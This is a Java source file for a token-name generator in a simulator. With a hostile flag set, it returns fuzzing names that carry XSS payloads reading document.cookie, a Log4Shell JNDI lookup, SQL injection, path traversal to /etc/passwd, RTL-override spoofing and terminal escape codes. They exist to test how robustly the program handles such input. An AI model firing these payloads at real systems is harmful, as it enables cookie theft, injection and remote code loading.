package io.tidemark.simulator;

import java.util.List;
import java.util.Locale;

/** Random names and symbols of tokens, some of which are hostile to programs if {@code hostile} is true. */
record RandomTokenNames(boolean hostile) {

  record Name(String name, String symbol) {}

  private static final double SHARE_OF_HOSTILE = 0.3;
  private static final List<String> FIRST = List.of(
      "Baby", "Based", "Cosmic", "Dark", "Electric", "Fluffy", "Giga", "Happy", "Instant", "Jumping", "Kind", "Lucky",
      "Mega", "Neon", "Orbital", "Purple", "Quantum", "Rocket", "Sleepy", "Turbo", "Ultra", "Velvet", "Wild", "Zen");
  private static final List<String> SECOND = List.of(
      "Ape", "Badger", "Cat", "Doge", "Eel", "Frog", "Goat", "Hamster", "Ibex", "Jaguar", "Koala", "Llama", "Moose",
      "Newt", "Otter", "Penguin", "Quokka", "Raccoon", "Shark", "Toad", "Unicorn", "Viper", "Wombat", "Yak");
  private static final List<String> LAST = List.of("", "", "", " Inu", " AI", " 2.0", " DAO", " Cash");

  private static final int LONG = 10_000;

  /** Names that harm programs which print, log, store or split them carelessly. */
  private static final List<Name> HOSTILE = List.of(
      new Name("<script>alert(document.cookie)</script>", "<b>XSS</b>"),
      new Name("\"><img src=x onerror=alert(1)>", "\"'`"),
      new Name("Safe\u202Enohtyp exe.kcilc\u202C", "\u202EDSU"),
      new Name("Two\nLines\r\nand: a header", "LINE\nBREAK"),
      new Name("\u0000Nul\u0007Bell\u001B[31mRed", "\u001B[2J"),
      new Name("\uD83D\uDE80\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 To The Moon", "\uD83D\uDE80"),
      new Name("Either/Or/../../etc/passwd", "A/B"),
      new Name("${jndi:ldap://example.org/a} %s %n {{7*7}}", "$USDC"),
      new Name("'; DROP TABLE pools; --", "NULL"),
      new Name("[click](https://example.org) @everyone", "*_~`"),
      new Name("Z\u0351\u036B\u0343\u036A\u0302\u036Balgo", "ZA\u0336LGO"),
      new Name("\u200B\u200B", "\uFEFF"),
      new Name("X".repeat(LONG), "LONG" + "G".repeat(LONG)));

  Name of(StatelessRandom random) {
    if (hostile && random.chance(SHARE_OF_HOSTILE, 3)) {
      return random.pick(HOSTILE, 4);
    }
    String second = random.pick(SECOND, 1);
    String name = random.pick(FIRST, 0) + " " + second + random.pick(LAST, 2);
    boolean initials = random.chance(0.3, 5);
    String symbol = initials ? name.charAt(0) + second : second;
    return new Name(name, symbol.toUpperCase(Locale.ROOT));
  }
}
